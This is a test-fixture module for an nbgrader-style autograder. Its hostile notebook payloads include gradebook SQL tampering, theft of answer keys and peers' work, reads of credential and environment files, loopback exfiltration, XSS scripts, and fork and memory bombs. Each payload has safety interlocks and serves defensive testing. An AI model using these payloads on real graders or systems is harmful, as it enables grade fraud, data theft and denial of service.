"""The hostile corpus: submissions that attack the grader, and the outcome each must get.

Every case is one student of a class directory (``<class>/<student>/ch11/<notebook>.ipynb``
plus, for some, planted files). A case starts from a released notebook, either untouched
(``blank``: the honest content earns 0 autograded points) or answered with the source
notebook's solutions (``complete``: the honest content earns the reference's points), and
adds its payload: code cells, replaced answer cells, planted files, or direct edits of the
notebook JSON. :data:`CASES` is the table; :func:`build_corpus` writes it.

An :class:`Expect` states the safe outcome:

* ``max_auto``: the most autograded points the submission may earn, all notebooks
  together (never more than its honest content);
* ``min_auto``: points its honest content must keep (e.g. warnings on stderr must not
  cost anything);
* ``completes``: ``graded`` (the notebook is graded and its score recorded) or
  ``error`` (the grader records a failure for this submission and goes on);
* ``checks``: named extra checks the test runs for this case (``CHECKS``);
* ``max_seconds``: the most wall time the batch may spend on it, for cases that try
  to stall the grader (the bound depends on the test's limits, see test_hostile.py).

Every case also requires that the honest students' gradebook rows are unchanged.

Payloads are real attacks, but built to be safe on a shared machine even if a defence
fails: anything that writes outside its own scratch directory first checks that the
target lies under ``Context.allowed_root`` (the test's own temporary tree), resource
attacks bound themselves (a fork bomb stops after a few seconds, a disk filler after
1 GiB), nothing signals a process other than its own and its parent, and the only
external network address is a connect attempt to TEST-NET-1 (192.0.2.1, RFC 5737,
never routed) with a 1 s timeout.

The module has no test-framework dependency: ``python tests/support/hostile_corpus.py DEST``
writes the corpus for inspection (with placeholder context values).
"""

from __future__ import annotations

import copy
import json
import os
import re
import sys
import textwrap
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from ch11_autograder.authoring.submissions import answer_sources, fill, read
from ch11_autograder.paths import ASSIGNMENT, RELEASE_DIR, REPO_ROOT, SOURCE_DIR

__all__ = [
    "ASSIGNMENT",
    "CASES",
    "CHECKS",
    "DEFENCES",
    "ERROR",
    "GRADED",
    "NOTEBOOK_POINTS",
    "Case",
    "Context",
    "Expect",
    "build_corpus",
    "case",
    "render_table",
]


#: Autograded points of each notebook (the reference earns all of them).
NOTEBOOK_POINTS: dict[str, float] = {
    "ex1_fanout": 8.0,
    "ex2_finite_difference": 10.0,
    "ex3_block_length": 6.0,
    "ex4_audit": 4.0,
    "ex5_replay": 12.0,
}

GRADED = "graded"
ERROR = "error"

#: What stops an attack, as named in the table.
DEFENCES = {
    "sandbox": "bwrap/Docker sandbox: not mounted, no network, own pid namespace, resource limits",
    "scratch": "the notebook runs in a fresh scratch copy, never inside the course tree",
    "verdicts": "scores come from out-of-kernel property suites, never from cell outputs",
    "sanitize": "outputs and markdown are sanitized before any browser renders them",
    "intake": "nbgrader's sanitize steps and the grader's intake (cell restore, links refused, JSON validated)",
    "protocol": "the worker's replies are typed, size-capped data checked by the trusted side",
}

#: Extra checks a case can ask for; test_hostile.py implements each.
CHECKS = {
    "gradebook_untouched": "no grade row carries extra credit and no student was renamed by a payload",
    "no_loopback_connection": "the test's 127.0.0.1 listener received no connection",
    "net_unreachable": "the TEST-NET probe reports no route, never a connection or a timeout",
    "feedback_no_script": "no payload marker inside <script>, on* attributes, javascript: URLs or active elements",
    "autograded_no_active_output": "the autograded notebook (formgrader) keeps no JavaScript or <script> in outputs",
    "formgrader_no_script": "the formgrader's rendering of the submission carries no payload script",
    "feedback_no_course_path": "the feedback shows no path of the course directory",
    "feedback_no_hidden_source": "no hidden test region text in the feedback or the autograded outputs",
    "feedback_small": "feedback HTML and autograded notebook stay below 20 MB",
    "disk_bounded": "each file the payload wrote stayed within the file-size and tmpfs limits",
    "scratch_bounded": "the payload could not put more than 256 MiB on the host disk in total",
    "no_host_import": "no planted module was imported by the trusted grader (no evidence file appears on the host)",
    "no_secret_leak": "the feedback shows no gradebook bytes and no reference source",
    "kernel_stopped_responding": "the notebook's run ended with an error saying the kernel stopped responding",
}


@dataclass(frozen=True)
class Context:
    """Where the corpus will be graded; payloads bake these values in.

    Attributes:
        course: absolute path of the course directory (the attacker's best guess).
        class_dir: absolute path of the class directory the corpus is written into.
        repo: the repository (reference library, suites, docs/audit-keys.md).
        allowed_root: the only tree a payload may modify (safety interlock).
        listener_port: TCP port of the test's 127.0.0.1 listener (0: none).
        evidence_dir: where a planted module leaves a file if a trusted process imports it.
    """

    course: Path
    class_dir: Path
    repo: Path = REPO_ROOT
    allowed_root: Path = Path("/nonexistent-hostile-root")
    listener_port: int = 0
    evidence_dir: Path = Path("/nonexistent-hostile-evidence")


@dataclass(frozen=True)
class Expect:
    """The safe outcome of one case (see the module docstring)."""

    max_auto: float
    min_auto: float = 0.0
    completes: str = GRADED
    checks: tuple[str, ...] = ()
    #: Most wall seconds the batch may spend on the submission (``SubmissionRecord.seconds``), for
    #: cases that try to stall the grader; ``None``: bounded only by the batch's own limits.
    max_seconds: float | None = None

    def __post_init__(self) -> None:
        if self.completes not in (GRADED, ERROR):
            raise ValueError(f"completes must be {GRADED!r} or {ERROR!r}")
        unknown = set(self.checks) - set(CHECKS)
        if unknown:
            raise ValueError(f"unknown checks {sorted(unknown)}")
        if not 0 <= self.min_auto <= self.max_auto:
            raise ValueError("need 0 <= min_auto <= max_auto")


Builder = Callable[["Case", Context, Path], None]


@dataclass(frozen=True)
class Case:
    """One hostile submission.

    Attributes:
        name: the student id (lowercase, underscores).
        attempts: what the attack tries to achieve.
        how: the mechanism, in one sentence.
        notebook: stem of the one notebook it submits.
        base: ``blank`` or ``complete`` (see the module docstring).
        expect: the safe outcome.
        defence: key of :data:`DEFENCES`: what is expected to stop it.
        build: writes the submission directory (see the builders below).
        unsandboxed_demo: ``none`` if grading with ``CH11_SANDBOX=none`` shows the attack
            working (only for payloads that stay harmless unsandboxed), ``plain`` if plain
            nbgrader (its own Execute, no trusted verdicts, no sanitizing) shows it, else ``""``.
    """

    name: str
    attempts: str
    how: str
    notebook: str
    base: str
    expect: Expect
    defence: str
    build: Builder
    unsandboxed_demo: str = ""

    def __post_init__(self) -> None:
        if self.base not in ("blank", "complete"):
            raise ValueError(f"{self.name}: base must be blank or complete")
        if self.notebook not in NOTEBOOK_POINTS:
            raise ValueError(f"{self.name}: unknown notebook {self.notebook}")
        if self.defence not in DEFENCES:
            raise ValueError(f"{self.name}: unknown defence {self.defence}")
        if self.unsandboxed_demo not in ("", "none", "plain"):
            raise ValueError(f"{self.name}: unsandboxed_demo must be '', 'none' or 'plain'")
        honest = NOTEBOOK_POINTS[self.notebook] if self.base == "complete" else 0.0
        if self.expect.max_auto > honest:
            raise ValueError(f"{self.name}: max_auto {self.expect.max_auto} exceeds the honest content {honest}")

    @property
    def honest_points(self) -> float:
        """Autograded points of the submission's honest content."""
        return NOTEBOOK_POINTS[self.notebook] if self.base == "complete" else 0.0


# --------------------------------------------------------------------------- notebook helpers


def _grade_id(cell: Any) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def base_notebook(notebook: str, base: str) -> Any:
    """The released notebook, untouched (``blank``) or answered like the reference (``complete``)."""
    released = read(RELEASE_DIR / f"{notebook}.ipynb")
    answers = answer_sources(read(SOURCE_DIR / f"{notebook}.ipynb")) if base == "complete" else {}
    return fill(released, answers)


def _index(nb: Any, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if _grade_id(cell) == grade_id:
            return i
    raise KeyError(f"no cell {grade_id!r}")


def _new_code(source: str, n: int) -> Any:
    cell = nbformat.v4.new_code_cell(source)
    cell["id"] = f"hostile-{n}"
    return cell


def _subst(source: str, ctx: Context, case: Case, *, literal: bool = True) -> str:
    """``source`` with its placeholders replaced by Python literals (``literal``) or plain text."""
    values: dict[str, str | int] = {
        "@ME@": case.name,
        "@COURSE@": str(ctx.course),
        "@CLASS@": str(ctx.class_dir),
        "@REPO@": str(ctx.repo),
        "@ALLOWED@": str(ctx.allowed_root),
        "@PORT@": int(ctx.listener_port),
        "@EVIDENCE@": str(ctx.evidence_dir),
    }
    text = textwrap.dedent(source).strip("\n")
    for key, value in values.items():
        text = text.replace(key, repr(value) if literal else str(value))
    return text


def _write(nb: Any, case: Case, dest: Path) -> Path:
    target = dest / case.name / ASSIGNMENT / f"{case.notebook}.ipynb"
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(target))
    return target


def cells(
    *,
    after: str | None = None,
    replace: dict[str, str] | None = None,
    append: dict[str, str] | None = None,
    new: Iterable[tuple[str, str]] = (),
    mutate: Callable[[Any], None] | None = None,
) -> Builder:
    """A builder that edits the base notebook.

    Args:
        replace: grade_id -> new source of that cell (payload substituted).
        append: grade_id -> code appended to that cell.
        new: (grade_id, source): a new code cell (no nbgrader metadata, as a student
            adds one) inserted after the cell ``grade_id``.
        mutate: last, a function editing the notebook node in place.
    """

    def build(case: Case, ctx: Context, dest: Path) -> None:
        nb = base_notebook(case.notebook, case.base)
        for grade_id, source in (replace or {}).items():
            nb.cells[_index(nb, grade_id)].source = _subst(source, ctx, case)
        for grade_id, source in (append or {}).items():
            cell = nb.cells[_index(nb, grade_id)]
            cell.source = cell.source.rstrip() + "\n\n\n" + _subst(source, ctx, case)
        for n, (grade_id, source) in enumerate(new):
            nb.cells.insert(_index(nb, grade_id) + 1, _new_code(_subst(source, ctx, case), n))
        if mutate is not None:
            mutate(nb)
        _write(nb, case, dest)

    return build


def raw_json(transform: Callable[[dict[str, Any]], str]) -> Builder:
    """A builder that writes ``transform(notebook as a JSON dict)`` verbatim (malformed on purpose)."""

    def build(case: Case, ctx: Context, dest: Path) -> None:
        nb = base_notebook(case.notebook, case.base)
        text = transform(json.loads(nbformat.writes(nb)))
        target = dest / case.name / ASSIGNMENT / f"{case.notebook}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")

    return build


def with_files(inner: Builder, files: dict[str, str], links: dict[str, str]) -> Builder:
    """``inner``, plus planted regular files (name -> text) and symbolic links (name -> target)."""

    def build(case: Case, ctx: Context, dest: Path) -> None:
        inner(case, ctx, dest)
        folder = dest / case.name / ASSIGNMENT
        for name, text in files.items():
            (folder / name).write_text(_subst(text, ctx, case) + "\n", encoding="utf-8")
        for name, target in links.items():
            os.symlink(_subst(target, ctx, case, literal=False), folder / name)

    return build


# --------------------------------------------------------------------------- payload parts

#: Where a payload looks for the course: its own cwd and parents, every visible process's
#: working directory, and absolute guesses (the real course path included: the defence must
#: hold even when the attacker knows where things are).
FIND = r'''
import glob as _glob
import os as _os

_ALLOWED = _os.path.realpath(@ALLOWED@)  # safety interlock: write or execute nothing found outside the test's tree
_GUESSES = [@COURSE@, @CLASS@, @REPO@, @REPO@ + "/build/demo-course", "/grading/course", "/grading/source",
            "/grading", "/autograder", "/autograder/source", "/srv/nbgrader", "/home", "/root", "/work/main"]


def _roots():
    roots = [_os.getcwd(), *_GUESSES]
    for pid in sorted(p for p in _os.listdir("/proc") if p.isdigit()):
        try:
            roots.append(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    return list(dict.fromkeys(roots))


def _find(patterns):
    found = []
    for root in _roots():
        for up in ("", "..", "../..", "../../..", "../../../.."):
            for pattern in patterns:
                for path in sorted(_glob.glob(_os.path.join(root, up, pattern))):
                    path = _os.path.realpath(path)
                    if path not in found and _os.path.isfile(path):
                        found.append(path)
    return found


def _ours(path):
    return path.startswith(_ALLOWED + _os.sep)
'''

TAMPER = FIND + r'''
import sqlite3 as _sqlite3

_ME = @ME@
_OWN = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
        "WHERE sa.student_id {} ?")
_done = []
for _db in _find(@PATTERNS@):
    if not _ours(_db):
        continue
    try:
        with _sqlite3.connect(_db, timeout=5) as _c:
            _c.execute("UPDATE grade SET extra_credit = 100, auto_score = "
                       "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                       "WHERE notebook_id IN (" + _OWN.format("=") + ")", (_ME,))
            _c.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ("
                       + _OWN.format("!=") + ")", (_ME,))
            _c.execute("UPDATE student SET last_name = ?", ("tampered by " + _ME,))
        _done.append(_db)
    except Exception as _e:
        _done.append(f"{_db}: {type(_e).__name__}")
print("gradebooks rewritten:", _done)
'''

STEAL_EX4_KEY = r'''
import re as _re

def _key_from_markdown(text):
    rows = _re.findall(r"^\| `(\w+)` \| [^|]* \| (\w+) \|", text, _re.M)
    return dict(rows) if len(rows) >= 4 else None

def _key_from_python(source):
    namespace = {"__name__": "stolen_ex4"}
    exec(compile(source, "stolen_ex4", "exec"), namespace)
    key = namespace["ANSWER_KEYS"]["chen2016"]
    return {name: str(f.canonical) for name, f in key.fields.items()}

_stolen = None
for _path in _find(["docs/audit-keys.md", "solutions/ch11_solutions/ex4_audit.py",
                    "*/site-packages/ch11_solutions/ex4_audit.py"]):
    try:
        with open(_path, encoding="utf-8") as _f:
            _text = _f.read()
        _stolen = _key_from_markdown(_text) if _path.endswith(".md") else _key_from_python(_text)
    except Exception:
        continue
    if _stolen:
        break
print("stolen key:", _stolen)

if _stolen:
    def audit_marks():
        return {"paper": "chen2016", **{k: str(v) for k, v in _stolen.items()}}
'''

STEAL_PEER = r'''
import json as _json

# Another student's answers: the class directory, the course's submitted/ and autograded/ trees.
_peer = None
for _path in _find(["../../ada/ch11/ex1_fanout.ipynb", "ada/ch11/ex1_fanout.ipynb",
                    "submitted/ada/ch11/ex1_fanout.ipynb", "autograded/ada/ch11/ex1_fanout.ipynb",
                    "submitted/*/ch11/ex1_fanout.ipynb"]):
    if not _ours(_path):
        continue
    try:
        with open(_path, encoding="utf-8") as _f:
            _nb = _json.load(_f)
        _cells = [c for c in _nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                  and c["cell_type"] == "code"]
        _sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in _cells]
        if _sources and not any("NotImplementedError" in s for s in _sources[:3]):
            _peer = _path
            for _s in _sources:
                try:
                    exec(_s, globals())
                except Exception:
                    pass
            break
    except Exception:
        continue
print("copied answers from:", _peer)
'''


def _payload(*parts: str) -> str:
    return "\n\n".join(textwrap.dedent(p).strip("\n") for p in parts)


# --------------------------------------------------------------------------- JSON manipulations


def _drop_test_cell(nb: Any) -> None:
    nb.cells.pop(_index(nb, "ex4_audit_marks_tests"))


def _rename_test_cell(nb: Any) -> None:
    cell = nb.cells[_index(nb, "ex4_audit_marks_tests")]
    cell.metadata.nbgrader["grade_id"] = "ex4_audit_marks_tests_v2"
    cell["id"] = "ex4_audit_marks_tests_v2"
    cell.source = 'print("visible checks passed")'


def _duplicate_test_cell(nb: Any) -> None:
    index = _index(nb, "ex4_audit_marks_tests")
    twin = copy.deepcopy(nb.cells[index])
    twin["id"] = "ex4-audit-marks-tests-twin"
    twin.source = "pass"
    original = nb.cells[index]
    original.source = "pass"
    nb.cells.insert(index, twin)


def _edit_test_cell(nb: Any) -> None:
    cell = nb.cells[_index(nb, "ex4_audit_marks_tests")]
    cell.source = 'print("visible checks passed")'
    cell.metadata.nbgrader["points"] = 100
    cell.metadata.nbgrader.pop("checksum", None)


def _promote_answer_cell(nb: Any) -> None:
    answer = nb.cells[_index(nb, "ex4_audit_marks")]
    answer.metadata.nbgrader.update({"grade": True, "solution": False, "locked": True, "points": 40})
    answer.source = 'print("visible checks passed")'
    vocabulary = nb.cells[_index(nb, "ex4-vocabulary")]
    vocabulary.source = "SUPPORTED_PAPERS = {}\nALLOWED_VALUES = {}\nMARK_FIELDS = ()"
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


FORGED = [
    {"output_type": "execute_result", "execution_count": 10**12, "metadata": {}, "data": {"text/plain": "1e9"}},
    {"output_type": "execute_result", "execution_count": 3, "metadata": {}, "data": {"text/plain": "np.float64(2.0)"}},
    {"output_type": "display_data", "metadata": {}, "data": {
        "application/javascript": "window.HOSTILE_XSS_FORGED = 1",
        "text/html": "<script>HOSTILE_XSS_FORGED()</script>"}},
]


def _forge_outputs(nb: Any) -> None:
    for grade_id in ("ex4_audit_marks_tests", "ex4_audit_marks"):
        cell = nb.cells[_index(nb, grade_id)]
        cell.outputs = [nbformat.from_dict(o) for o in FORGED]
        cell.execution_count = 3


def _malformed(nb: dict[str, Any]) -> str:
    text = json.dumps(nb, indent=1)
    return text[: len(text) // 2]  # cut in the middle of a cell


def _nbformat3(nb: dict[str, Any]) -> str:
    node = nbformat.reads(json.dumps(nb), as_version=4)
    return nbformat.writes(nbformat.convert(node, 3), version=3)


def _nbformat5(nb: dict[str, Any]) -> str:
    nb["nbformat"] = 5
    nb["nbformat_minor"] = 0
    return json.dumps(nb, indent=1)


# --------------------------------------------------------------------------- the cases


def xss_hit(marker: str, quote: str = "'") -> str:
    """JavaScript that, if it ever runs, shows itself three ways a browser test can see.

    It sets ``document.title`` to ``marker``, opens an alert saying ``marker`` and appends a
    ``<hostile-xss id=marker>`` element to the page. ``quote`` is the JavaScript string quote
    (``'`` or a backtick) that fits where the payload is embedded. The marker text stays in the
    payload, so the static checks (``active_markers`` in test_hostile.py) find it as before.
    """
    m = f"{quote}{marker}{quote}"
    return (f"document.title={m};alert({m});"
            f"document.documentElement.appendChild(document.createElement({quote}hostile-xss{quote})).id={m}")


def _with_hits(source: str) -> str:
    """``source`` with each ``@HITn@`` replaced by :func:`xss_hit` of ``HOSTILE_XSS_n`` (backtick strings).

    Backticks because the payloads sit in Python strings of either quote inside HTML
    attributes of double quotes: only a backtick is free in all of them.
    """
    return re.sub(r"@HIT(\d+)@", lambda m: xss_hit(f"HOSTILE_XSS_{m.group(1)}", "`"), source)


#: A manually graded markdown answer carrying script.
MARKDOWN_XSS = (
    f"My answer.\n\n<script>{xss_hit('HOSTILE_XSS_MD1')}</script>\n"
    f"<img src=x onerror=\"{xss_hit('HOSTILE_XSS_MD2')}\">\n"
    f"<a href=\"javascript:{xss_hit('HOSTILE_XSS_MD3')}\">see</a>\n"
    f"<iframe src=\"javascript:{xss_hit('HOSTILE_XSS_MD4')}\"></iframe>"
)

#: Module names a grader process might import; planted next to the notebook.
SHADOWED_MODULES = ("numpy.py", "protocol.py", "_ch11_wire_protocol.py", "trainable_harness.py", "nbformat.py",
                    "json.py", "sitecustomize.py", "nbgrader_config.py")

#: What each planted module holds: evidence wherever it is imported, then an ImportError.
SHADOW = """
    import os as _os
    try:
        _os.makedirs(@EVIDENCE@, exist_ok=True)
        with open(_os.path.join(@EVIDENCE@, "imported-" + __name__ + "-" + str(_os.getpid())), "w") as _f:
            _f.write(_os.getcwd())
    except OSError:
        pass
    raise ImportError("planted module")
"""

_BLANK_ZERO = Expect(max_auto=0.0)


def _zero(*checks: str, completes: str = GRADED) -> Expect:
    return Expect(max_auto=0.0, completes=completes, checks=checks)


def _case(name: str, attempts: str, how: str, notebook: str, base: str, expect: Expect, defence: str,
          build: Builder, demo: str = "") -> Case:
    return Case(name, attempts, how, notebook, base, expect, defence, build, demo)


_EX4 = "ex4_audit"
_EX3 = "ex3_block_length"
_EX1 = "ex1_fanout"
_FULL4 = NOTEBOOK_POINTS[_EX4]
_FULL3 = NOTEBOOK_POINTS[_EX3]

CASES: tuple[Case, ...] = (
    # ------------------------------------------------------------------ the gradebook
    _case(
        "gradebook_relative",
        "raise its own score and zero everyone else's in gradebook.db",
        "sqlite3 on ../gradebook.db, ../../gradebook.db, ../../../gradebook.db (plain nbgrader runs the kernel "
        "in autograded/<student>/ch11, three levels below the gradebook)",
        _EX4, "blank", _zero("gradebook_untouched"), "scratch",
        cells(new=[("ex4_audit_marks", TAMPER.replace("@PATTERNS@", repr(["gradebook.db"])))]),
        demo="plain",
    ),
    _case(
        "gradebook_absolute",
        "rewrite gradebook.db found anywhere on the machine",
        "sqlite3 on the real course path, other absolute guesses, and every visible process's cwd (/proc/*/cwd)",
        _EX4, "blank", _zero("gradebook_untouched"), "sandbox",
        cells(new=[("ex4_audit_marks", TAMPER.replace(
            "@PATTERNS@", repr(["gradebook.db", "*/gradebook.db", "course/gradebook.db"])))]),
        demo="none",
    ),
    # ------------------------------------------------------------------ the kernel's own machinery
    _case(
        "input_transformers_post",
        "make every later cell, the test cells included, a no-op so that all tests 'pass'",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
        _EX4, "blank", _BLANK_ZERO, "verdicts",
        cells(new=[("ex4_audit_marks", """
            get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
        """)]),
        demo="plain",
    ),
    _case(
        "set_custom_exc",
        "swallow every exception, so failing test cells show no error output",
        "get_ipython().set_custom_exc((BaseException,), handler returning None)",
        _EX4, "blank", _BLANK_ZERO, "verdicts",
        cells(new=[("ex4_audit_marks", """
            def _swallow(shell, etype, evalue, tb, tb_offset=None):
                return None

            get_ipython().set_custom_exc((BaseException,), _swallow)
        """)]),
    ),
    _case(
        "output_spoof_display_hook",
        "make test cells show a partial-credit value: 'np.float64(2.0)' (unparsable: full marks in plain "
        "nbgrader) and '1e9' (above the cell's points: aborts the submission)",
        "a post_run_cell hook publishes execute_result 'np.float64(2.0)' and display_data '1e9' after every cell, "
        "with set_custom_exc hiding the test's error",
        _EX4, "blank", _BLANK_ZERO, "verdicts",
        cells(new=[("ex4_audit_marks", """
            class _Spoof:
                def __init__(self, text):
                    self.text = text

                def __repr__(self):
                    return self.text


            def _spoof(result):
                shell = get_ipython()
                shell.displayhook(_Spoof("np.float64(2.0)"))
                shell.display_pub.publish({"text/plain": "1e9"})


            get_ipython().events.register("post_run_cell", _spoof)
            get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        """)]),
        demo="plain",
    ),
    _case(
        "forged_test_outputs",
        "store outputs in the submitted JSON that nbgrader would score: '1e9', 'np.float64(2.0)', "
        "and script in a display_data",
        "notebook JSON: execute_result and display_data outputs written into the test and answer cells",
        _EX4, "blank", _zero("feedback_no_script", "autograded_no_active_output"), "intake",
        cells(mutate=_forge_outputs),
    ),
    # ------------------------------------------------------------------ secrets and other students
    _case(
        "import_reference_library",
        "answer Exercise 3 with the instructor's reference implementation",
        "import ch11_solutions.ex3_block_length (also after adding <repo>/solutions to sys.path)",
        _EX3, "blank", _BLANK_ZERO, "sandbox",
        cells(replace={"ex3_best_block_length": """
            import sys

            try:
                from ch11_solutions.ex3_block_length import BlockChoice, best_block_length, block_table
            except ImportError:
                sys.path[:0] = [@REPO@ + "/solutions", "/autograder/source/solutions"]
                try:
                    from ch11_solutions.ex3_block_length import BlockChoice, best_block_length, block_table
                except ImportError:
                    def best_block_length(depth):
                        raise NotImplementedError("the reference was not reachable")
        """, "ex3_block_table": "# taken from the reference above"}),
        demo="none",
    ),
    _case(
        "import_hidden_suites",
        "read the Exercise 4 answer key through the hidden suite module",
        "import ch11_autograder.exercises.ex4.suite and use its reference module's ANSWER_KEYS",
        _EX4, "blank", _BLANK_ZERO, "sandbox",
        cells(replace={"ex4_audit_marks": """
            import sys

            sys.path[:0] = [@REPO@ + "/autograder", @REPO@ + "/solutions"]
            try:
                from ch11_autograder.exercises.ex4 import suite as _suite

                _key = _suite.ref.ANSWER_KEYS["chen2016"]
                _marks = {name: str(f.canonical) for name, f in _key.fields.items()}

                def audit_marks():
                    return {"paper": "chen2016", **_marks}
            except Exception as _error:
                print("suites not reachable:", type(_error).__name__)

                def audit_marks():
                    raise NotImplementedError("the suites were not reachable")
        """}),
        demo="none",
    ),
    _case(
        "read_answer_key_files",
        "read the Exercise 4 answer key from docs/audit-keys.md or ch11_solutions/ex4_audit.py",
        "open() on guessed and discovered paths (cwd parents, /proc/*/cwd, the repository path), parse the key",
        _EX4, "blank", _zero("no_secret_leak"), "sandbox",
        cells(new=[("ex4_audit_marks", _payload(FIND, STEAL_EX4_KEY))]),
        demo="none",
    ),
    _case(
        "read_other_submissions",
        "copy another student's Exercise 1 answers",
        "open ../../ada/ch11/ex1_fanout.ipynb and the course's submitted/ and autograded/ trees, exec the "
        "solution cells found",
        _EX1, "blank", _BLANK_ZERO, "sandbox",
        cells(new=[("ex1_input_gradient", _payload(FIND, STEAL_PEER))]),
        demo="none",
    ),
    _case(
        "symlinks_planted",
        "get another student's notebook, the gradebook and the reference into the sandbox as data files",
        "symbolic links next to the notebook: peer.txt -> ../../ada/ch11/ex1_fanout.ipynb, "
        "gb.txt -> ../../../gradebook.db, ref.txt -> <repo>/solutions/ch11_solutions/ex1_fanout.py, up -> ../../..; "
        "the notebook execs what it reads",
        _EX1, "blank", _zero("no_secret_leak"), "intake",
        with_files(
            cells(new=[("ex1_input_gradient", """
                import json as _json
                import os as _os

                _got = {}
                for _name in ("peer.txt", "gb.txt", "ref.txt", "up/gradebook.db", "course.txt"):
                    try:
                        with open(_name, "rb") as _f:
                            _got[_name] = _f.read()
                    except OSError as _e:
                        _got[_name] = None
                print("readable:", sorted(k for k, v in _got.items() if v))
                if _got.get("ref.txt"):
                    exec(_got["ref.txt"].decode(), globals())
                if _got.get("peer.txt"):
                    for _c in _json.loads(_got["peer.txt"])["cells"]:
                        if _c.get("metadata", {}).get("nbgrader", {}).get("solution") and _c["cell_type"] == "code":
                            try:
                                exec("".join(_c["source"]), globals())
                            except Exception:
                                pass
                for _k, _v in _got.items():
                    if _v and _k != "peer.txt":
                        print(_k, _v[:200])
            """)]),
            files={},
            links={
                "peer.txt": "../../ada/ch11/ex1_fanout.ipynb",
                "gb.txt": "../../../gradebook.db",
                "ref.txt": "@REPO@/solutions/ch11_solutions/ex1_fanout.py",
                "course.txt": "@COURSE@/gradebook.db",
                "up": "../../..",
            },
        ),
    ),
    _case(
        "hidden_source_exfiltration",
        "print the hidden test code into the feedback",
        "post_run_cell hook prints every executed cell's source; the cell also dumps In/_ih and the notebook "
        "file in its working directory",
        _EX4, "blank", _zero("feedback_no_hidden_source"), "verdicts",
        cells(new=[("ex4_audit_marks", """
            import glob

            def _leak(result):
                print("EXECUTED:", result.info.raw_cell)

            get_ipython().events.register("post_run_cell", _leak)
            for _path in glob.glob("*.ipynb") + glob.glob("../*.ipynb"):
                print(_path, open(_path, encoding="utf-8").read())
        """)]),
    ),
    _case(
        "environment_probe",
        "learn host paths and secrets from the sandbox's environment and show them in the feedback",
        "print os.environ, /proc/self/mountinfo, /proc/1/cmdline, / and the cwd listing into outputs",
        _EX4, "blank", _zero("feedback_no_course_path"), "sandbox",
        cells(new=[("ex4_audit_marks", """
            import os

            print(dict(os.environ))
            for _path in ("/proc/self/mountinfo", "/proc/1/cmdline", "/etc/passwd", "/etc/hostname"):
                try:
                    print(_path, open(_path, "rb").read()[:5000])
                except OSError as _e:
                    print(_path, type(_e).__name__)
            print(os.getcwd(), sorted(os.listdir(".")), sorted(os.listdir("/")))
        """)]),
    ),
    # ------------------------------------------------------------------ network
    _case(
        "network_loopback",
        "report to a listener on the grading host (exfiltration channel)",
        "socket.create_connection(('127.0.0.1', <test listener port>)) from the kernel and from the worker",
        _EX4, "blank", _zero("no_loopback_connection"), "sandbox",
        cells(replace={"ex4_audit_marks": """
            import socket

            def _call_home(where):
                try:
                    with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as s:
                        s.sendall(f"{@ME@} from the {where}".encode())
                    return "connected"
                except OSError as e:
                    return f"{type(e).__name__}: {e}"

            print("loopback from the kernel:", _call_home("kernel"))

            def audit_marks():
                raise RuntimeError("loopback from the worker: " + _call_home("worker"))
        """}),
        demo="none",
    ),
    _case(
        "network_testnet",
        "reach an external host",
        "connect to 192.0.2.1:80 (TEST-NET-1, never routed) with a 1 s timeout; the error is shown in feedback",
        _EX4, "blank", _zero("net_unreachable"), "sandbox",
        cells(replace={"ex4_audit_marks": """
            import socket

            def _probe():
                try:
                    with socket.create_connection(("192.0.2.1", 80), timeout=1):
                        return "NETPROBE connected"
                except TimeoutError:
                    return "NETPROBE timed out"
                except OSError as e:
                    return f"NETPROBE {type(e).__name__}: {e.strerror}"

            print(_probe(), "(kernel)")

            def audit_marks():
                raise RuntimeError(_probe() + " (worker)")
        """}),
    ),
    # ------------------------------------------------------------------ resources
    _case(
        "infinite_loop_top_level",
        "hang the grader with a top-level infinite loop in a solution cell",
        "while True: pass in a cell of its own after the (complete) answers; the loop may cost only that cell",
        _EX3, "complete", Expect(max_auto=_FULL3, min_auto=_FULL3), "sandbox",
        cells(new=[("ex3_block_table", "while True:\n    pass")]),
    ),
    _case(
        "infinite_loop_in_graded_function",
        "hang the grader inside a function the suite calls (only outside the notebook kernel)",
        "best_block_length and block_table loop forever unless ipykernel is loaded",
        _EX3, "blank", _BLANK_ZERO, "sandbox",
        cells(replace={"ex3_best_block_length": """
            import sys

            def best_block_length(depth):
                while "ipykernel" not in sys.modules:
                    pass
                raise NotImplementedError()
        """, "ex3_block_table": """
            def block_table(depths=range(16, 4097)):
                while "ipykernel" not in sys.modules:
                    pass
                raise NotImplementedError()
        """}),
    ),
    _case(
        "memory_bomb",
        "exhaust the grading machine's memory",
        "allocate 256 MiB blocks (touched) without end at the top level of a cell",
        _EX3, "blank", _BLANK_ZERO, "sandbox",
        cells(new=[("ex3_best_block_length", """
            _blocks = []
            while True:
                _blocks.append(b"\\x01" * (256 << 20))
        """)]),
    ),
    _case(
        "fork_bomb",
        "exhaust the machine's process table",
        "every process forks as fast as it can for 3 s (children too), then the children exit",
        _EX3, "blank", _BLANK_ZERO, "sandbox",
        cells(new=[("ex3_best_block_length", """
            import os
            import time

            _origin = os.getpid()
            _deadline = time.time() + 3
            _failures = 0
            while time.time() < _deadline:
                try:
                    os.fork()
                except OSError:
                    _failures += 1
            if os.getpid() != _origin:
                os._exit(0)
            while True:
                try:
                    os.wait()
                except ChildProcessError:
                    break
            print("fork failures in the original process:", _failures)
        """)]),
    ),
    _case(
        "print_100mb",
        "flood the grader and the feedback with output",
